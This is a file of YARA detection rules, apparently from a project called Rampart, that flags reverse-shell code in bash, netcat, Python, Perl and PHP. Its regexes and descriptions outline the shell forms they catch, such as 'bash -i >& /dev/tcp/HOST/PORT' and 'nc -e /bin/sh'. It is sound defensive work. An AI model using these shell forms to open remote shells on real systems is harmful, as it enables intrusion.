/*
  Rampart starter rules: reverse shells in scripts and one-liners.
  Written for this project.
*/

rule RAMPART_ReverseShell_Bash_DevTcp : reverse_shell
{
  meta:
    description = "Interactive shell redirected to /dev/tcp (bash -i >& /dev/tcp/HOST/PORT 0>&1)"
    author = "Rampart"
    severity = 9
    mitre_attack = "T1059.004"
  strings:
    $a = /\b(ba)?sh\s+-i\s*(>&|&>|>)\s*\/dev\/(tcp|udp)\/[0-9A-Za-z.\-]{1,253}\/[0-9]{1,5}/
    $b = /\bexec\s+[0-9]{1,3}<>\/dev\/(tcp|udp)\/[0-9A-Za-z.\-]{1,253}\/[0-9]{1,5}/
  condition:
    any of them
}

rule RAMPART_ReverseShell_Netcat : reverse_shell
{
  meta:
    description = "netcat running a shell for a remote peer (-e /bin/sh, or the mkfifo relay)"
    author = "Rampart"
    severity = 9
    mitre_attack = "T1059.004"
  strings:
    $e = /\b(nc|ncat|netcat)(\.traditional|\.openbsd)?\s+(-[a-zA-Z]{1,4}\s+){0,4}-e\s+\/bin\/(ba|da|z)?sh\b/
    $fifo = /mkfifo\s+\/tmp\/[A-Za-z0-9_.]{1,32}\s*;\s*cat\s+\/tmp\/[A-Za-z0-9_.]{1,32}\s*\|\s*\/bin\/(ba)?sh\s+-i/
  condition:
    any of them
}

rule RAMPART_ReverseShell_Python : reverse_shell
{
  meta:
    description = "Python that connects a socket and binds a shell to it (dup2 of the socket, pty.spawn or subprocess of /bin/sh)"
    author = "Rampart"
    severity = 9
    mitre_attack = "T1059.006"
  strings:
    $socket = "socket.socket("
    $connect = ".connect(("
    $dup2 = /os\.dup2\(\s*[A-Za-z_.]{1,40}\.fileno\(\)\s*,\s*[012]\s*\)/
    $shell = /(pty\.spawn|subprocess\.call|subprocess\.Popen)\(\s*\[?\s*["']\/bin\/(ba)?sh/
  condition:
    $socket and $connect and $dup2 and $shell and filesize < 1MB
}

rule RAMPART_ReverseShell_Perl : reverse_shell
{
  meta:
    description = "Perl that connects a socket, redirects STDIN/STDOUT to it and runs /bin/sh"
    author = "Rampart"
    severity = 9
    mitre_attack = "T1059"
  strings:
    $use = "use Socket"
    $connect = /connect\s*\(\s*S\s*,\s*sockaddr_in\(/
    $stdin = /open\s*\(\s*STDIN\s*,\s*["']>&S["']\s*\)/
    $exec = /exec\s*\(\s*["']\/bin\/(ba)?sh\s+-i["']\s*\)/
  condition:
    all of them
}

rule RAMPART_ReverseShell_PHP_Fsockopen : reverse_shell php
{
  meta:
    description = "PHP that opens a socket with fsockopen and runs an interactive shell on it"
    author = "Rampart"
    severity = 9
    mitre_attack = "T1059"
  strings:
    $sock = /fsockopen\s*\(/
    $shell = /(exec|shell_exec|system|passthru|popen|proc_open)\s*\(\s*["']\/bin\/(ba)?sh\s+-i/
  condition:
    $sock and $shell and filesize < 1MB
}
